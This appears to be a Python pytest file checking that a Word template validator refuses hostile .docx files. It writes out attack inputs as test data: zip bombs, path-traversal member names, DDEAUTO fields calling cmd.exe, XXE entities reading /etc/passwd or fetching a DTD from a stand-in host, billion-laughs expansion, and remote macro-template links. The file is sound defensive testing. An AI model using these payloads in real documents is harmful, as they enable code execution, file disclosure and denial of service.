"""Hostile .docx files: bombs, macros, links to the outside, broken XML. All refused, quickly."""

import io
import time
import zipfile
from hashlib import sha256

import pytest

from documents import docx
from documents.errors import TemplateRefused
from tests.documents.word import Paper, parts_of, with_change, with_part, word, zipped

RELATION = '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" {}/>'
RELS = "word/_rels/document.xml.rels"
DOCTYPE = b'<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY x "{}">]>'


def refused(data: bytes) -> str:
    """Return the message of the refusal, and prove that it came within seconds and for rendering as well."""
    started = time.monotonic()
    with pytest.raises(TemplateRefused) as refusal:
        docx.check_template(data, Paper)
    with pytest.raises(TemplateRefused):
        docx.render(data, letterhead={}, paper={})
    assert time.monotonic() - started < 6
    return str(refusal.value)


def relation(kind: str, attributes: str) -> bytes:
    return with_change(RELS, "</Relationships>", RELATION.format(kind, attributes) + "</Relationships>")


def field(*codes: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return with_change("word/document.xml", "<w:body>", f"<w:body><w:p>{begin}{runs}{end}</w:p>")


@pytest.mark.parametrize("data", [b"", b"PK", b"%PDF-1.7", b"PK\x03\x04" + b"\0" * 100, word("x")[:-40], zipped({})])
def test_what_is_not_a_word_file_is_refused(data):
    refused(data)


def test_a_file_over_2_mb_is_refused():
    assert "2 MB" in refused(b"PK" + b"\0" * (2 * 1024 * 1024))


def test_a_file_of_over_200_members_is_refused():
    assert "200" in refused(zipped({**parts_of(word("x")), **{f"word/media/{n}.png": b"x" for n in range(200)}}))


@pytest.mark.parametrize("size", [21 * 1024 * 1024, 3 * 1024 * 1024], ids=["20 MB in all", "ratio over 100"])
def test_a_zip_bomb_is_refused(size):
    refused(with_part("word/media/image1.png", b"\0" * size))


def test_a_zip_that_lies_about_its_sizes_is_refused():
    data = bytearray(with_part("word/media/a.png", b"\0" * 500_000))
    place = data.rfind(b"word/media/a.png") - 46 + 24  # the size in the central directory
    data[place : place + 4] = (10).to_bytes(4, "little")
    refused(bytes(data))


@pytest.mark.parametrize("name", ["../../etc/cron.xml", "/etc/passwd.xml", "C:\\x.xml", "word\\..\\x.xml"])
def test_a_member_that_points_outside_is_refused(name):
    refused(with_part(name, b"<x/>"))


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_two_members_of_one_name_are_refused():
    target = io.BytesIO(word("x"))
    with zipfile.ZipFile(target, "a") as package:
        package.writestr("word/document.xml", b"<x/>")
    refused(target.getvalue())


def test_an_encrypted_member_is_refused():
    data = bytearray(word("x"))
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.find(signature) + offset] |= 1
    refused(bytes(data))


@pytest.mark.parametrize(
    "name",
    [
        "word/vbaProject.bin",
        "word/embeddings/oleObject1.bin",
        "word/embeddings/Sheet1.xlsx",
        "word/activeX/activeX1.xml",
        "word/afchunk.htm",
        "word/evil.exe",
        "word/template.dotm",
    ],
)
def test_macros_objects_and_foreign_members_are_refused(name):
    assert name in refused(with_part(name, b"<x/>"))


def test_a_macro_content_type_is_refused():
    refused(with_change("[Content_Types].xml", "wordprocessingml.document.main", "ms-word.document.macroEnabled.main"))


@pytest.mark.parametrize(
    ("kind", "attributes"),
    [
        ("attachedTemplate", 'Target="http://evil.example/x.dotm" TargetMode="External"'),
        ("image", 'Target="http://evil.example/x.png" TargetMode="External"'),
        ("image", 'Target="//evil.example/share/x.png" TargetMode="External"'),
        ("hyperlink", 'Target="file:///etc/passwd" TargetMode="External"'),
        ("hyperlink", 'Target="javascript:alert(1)" TargetMode="External"'),
        ("hyperlink", 'Target="mhtml:http://evil.example" TargetMode="External"'),
        ("oleObject", 'Target="http://evil.example/x" TargetMode="External"'),
        ("oleObject", 'Target="embeddings/x.xml"'),
        ("aFChunk", 'Target="x.xml"'),
        ("package", 'Target="x.xml"'),
        ("frame", 'Target="http://evil.example" TargetMode="External"'),
    ],
)
def test_a_relationship_to_the_outside_is_refused(kind, attributes):
    assert attributes.split('"')[1] in refused(relation(kind, attributes))


def test_a_plain_web_link_may_stay():
    docx.check_template(relation("hyperlink", 'Target="https://vidu.example" TargetMode="External"'), Paper)


@pytest.mark.parametrize("element", ['<w:altChunk r:id="rId1"/>', "<w:p><w:r><w:object/></w:r></w:p>"])
def test_embedded_elements_are_refused(element):
    refused(with_change("word/document.xml", "<w:body>", "<w:body>" + element))


@pytest.mark.parametrize(
    "codes",
    [
        ("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe",),
        ("DD", "EAUTO x"),
        ("INCLUDETEXT file:///etc/passwd",),
        ("INCLUDEPICTURE http://evil.example/x.png",),
        ("LINK Excel.Sheet x",),
    ],
)
def test_a_field_that_reaches_outside_is_refused(codes):
    assert "".join(codes)[:7] in refused(field(*codes))


def test_a_forbidden_field_cannot_hide_behind_a_nested_page_number():
    begin, end = (f'<w:fldChar w:fldCharType="{kind}"/>' for kind in ("begin", "end"))
    runs = f"<w:r>{begin}{begin}<w:instrText>PAGE</w:instrText>{end}<w:instrText>DDEAUTO x</w:instrText>{end}</w:r>"
    assert "DDEAUTO" in refused(with_change("word/document.xml", "<w:body>", f"<w:body><w:p>{runs}</w:p>"))


@pytest.mark.parametrize(
    "entities",
    [
        b'<!ENTITY x SYSTEM "file:///etc/passwd">',
        b'<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY x "&b;&b;&b;&b;&b;&b;&b;&b;">',
        b'<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;',
    ],
    ids=["external entity", "billion laughs", "parameter entity"],
)
@pytest.mark.parametrize("name", ["word/document.xml", "word/header9.xml", RELS, "docProps/core.xml"])
def test_a_document_type_declaration_is_refused(entities, name):
    refused(with_part(name, b"<!DOCTYPE x [" + entities + b"]><x>&x;</x>"))


@pytest.mark.parametrize("name", ["word/document.xml", "[Content_Types].xml", "word/styles.xml"])
def test_broken_xml_is_refused_naming_the_part(name):
    assert name in refused(with_part(name, b"<w:document>"))


def test_a_part_over_2_mb_is_refused():
    noise = "".join(chr(0x4E00 + (n * 7919) % 20000) for n in range(800_000))
    assert "word/header9.xml" in refused(with_part("word/header9.xml", f"<x>{noise}</x>".encode()))


def noisy(text: str, times: int) -> list[str]:
    """Return paragraphs with `text` that do not compress like a bomb."""
    return [f"{sha256(str(number).encode()).hexdigest() * 2} {text}" for number in range(times)]


@pytest.mark.parametrize("unit", ["{%", "{{", "{#", "{% if ", "{{ a", "}}", "%}"])
def test_thousands_of_broken_tags_do_not_take_quadratic_time(unit):
    assert unit.strip()[:2] in refused(word(*noisy(unit * 40, 1000)))


def test_thousands_of_sound_tags_are_checked_in_seconds():
    started = time.monotonic()
    docx.check_template(word(*noisy("{{ paper.title }} " * 5, 800)), Paper)
    assert time.monotonic() - started < 20
